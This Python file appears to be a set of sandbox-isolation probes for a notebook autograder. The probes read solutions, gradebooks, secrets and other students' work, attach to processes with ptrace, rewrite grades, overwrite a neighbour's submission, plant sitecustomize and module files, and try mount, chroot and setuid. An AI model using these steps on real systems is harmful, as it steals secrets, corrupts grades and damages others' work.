"""Attacks on files: grades, solutions, other people's work, secrets."""

import os
import sys
from pathlib import Path


def readable(paths):
    """Say that the attack has won when one of the files can be read."""
    for path in paths:
        try:
            if Path(path).is_file() and Path(path).read_bytes():
                print("the attack has won")
        except OSError:
            pass


# --- reads-solutions: reads the instructor's notebook ---
readable(Path("/COURSE/solutions").rglob("*.ipynb"))

# --- reads-gradebook: reads the hidden tests from the gradebook ---
readable(["/COURSE/gradebook.db"])

# --- reads-neighbours: reads what others have handed in ---
readable(Path("/COURSE/submitted").rglob("*"))
readable(Path("/COURSE/autograded").rglob("*"))

# --- reads-the-secret: reads the secret that the seeds are made of ---
readable(["/COURSE/course-secret.key", "course-secret.key", "../course-secret.key"])

# --- finds-any-notebook: looks for notebooks, gradebooks and keys in the whole file system ---
for folder, inner, files in os.walk("/"):
    inner[:] = [name for name in inner if name not in ("proc", "sys", "dev", "usr", "lib")]
    if "site-packages" in folder:
        inner.clear()
        continue
    readable(os.path.join(folder, f) for f in files if f.endswith(("gradebook.db", ".key")))
    readable(os.path.join(folder, f) for f in files if f.endswith((".ipynb", "trusted.py")))

# --- reads-the-environment: looks for secrets and seeds in the environment ---
if any("COURSE" in name or "SECRET" in name or "TOKEN" in name for name in os.environ):
    print("the attack has won")

# --- reads-processes: reads memory, environment and open files of other processes ---
for process in Path("/proc").glob("[0-9]*"):
    if int(process.name) in (os.getpid(), os.getppid()):
        continue
    try:
        text = (process / "environ").read_bytes() + (process / "cmdline").read_bytes()
        if b"COURSE_SEED" in text or b"pytest" in text or b"nbgrader" in text:
            print("the attack has won")
        for number in (process / "fd").iterdir():
            if str(number.readlink()).startswith("/COURSE"):
                print("the attack has won")
    except OSError:
        pass

# --- traces-processes: attaches to every process that it sees, to change its memory ---
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
own = {os.getpid(), os.getppid(), 1}
for process in Path("/proc").glob("[0-9]*"):
    number = int(process.name)
    if number not in own and libc.ptrace(16, number, 0, 0) == 0:
        libc.ptrace(17, number, 0, 0)
        print("the attack has won")

# --- writes-the-gradebook: gives itself 77 points more, in the gradebook ---
import sqlite3

for path in ("/COURSE/gradebook.db", "gradebook.db", "../gradebook.db"):
    if Path(path).exists():
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("update grade set extra_credit = 77, manual_score = 77")
        print("the attack has won")

# --- renames-a-neighbours-file: renames, overwrites and removes what others have handed in ---
for path in Path("/COURSE/submitted").rglob("*.ipynb"):
    if "neighbour" in str(path):
        path.write_text("{}")
        path.rename(path.with_name("attack-was-here.ipynb"))
        print("the attack has won")

# --- writes-everywhere: leaves a file in every folder that can be written to ---
for folder, inner, _ in os.walk("/"):
    inner[:] = [name for name in inner if name not in ("proc", "sys", "site-packages")]
    try:
        Path(folder, "attack-was-here").write_text("x")
    except OSError:
        pass
for path in ("/COURSE", "/COURSE/submitted", "/COURSE/autograded", "/root", "/home", "/var/tmp"):
    try:
        Path(path).mkdir(parents=True, exist_ok=True)
        Path(path, "attack-was-here").write_text("x")
    except OSError:
        pass

# --- poisons-the-environment: plants modules and start files where Python looks for them ---
import site
import sys

for folder in {*sys.path, *site.getsitepackages(), sys.prefix, "/grader", str(Path.home())}:
    for name in ("numpy.py", "sitecustomize.py", "attack-was-here.pth", "ipykernel_launcher.py"):
        try:
            Path(folder, name).write_text("print('attack-was-here')")
        except OSError:
            pass

# --- leaves-a-message: leaves files and memory for the next student, and looks for them ---
from multiprocessing import shared_memory

for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
    path = Path(folder, "attack-was-here-message")
    if path.exists():
        print("the attack has won")
    try:
        path.write_text("the answers")
    except OSError:
        pass
try:
    shared_memory.SharedMemory("attack-was-here")
    print("the attack has won")
except OSError:
    pass
try:
    shared_memory.SharedMemory("attack-was-here", create=True, size=100)
except OSError:
    pass

# --- leaves-a-message-again: looks for what the student before has left ---
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
    readable([Path(folder, "attack-was-here-message")])

# --- mounts: mounts, leaves its root, and makes devices ---
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"/", b"/tmp", b"", 4096, None) == 0 or libc.chroot(b"/tmp") == 0:
    print("the attack has won")
try:
    os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
    print("the attack has won")
except OSError:
    pass
try:
    os.setuid(0)
    print("the attack has won")
except OSError:
    pass

# --- reads-open-descriptors: reads through descriptors that the grader has left open ---
for number in range(256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    fonts = (sys.prefix, sys.base_prefix)  # Matplotlib keeps those that it has read
    if target.startswith("/") and not target.startswith(("/dev", "/proc", "/usr", "/tmp", *fonts)):
        print("the attack has won")

# --- socket: tells somebody outside what the tests have asked ---
import socket

for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)),
    (socket.AF_UNIX, "\0attack-was-here"),
):
    try:
        with socket.socket(family) as line:
            line.settimeout(1)
            line.connect(address)
            print("the attack has won")
    except OSError:
        pass
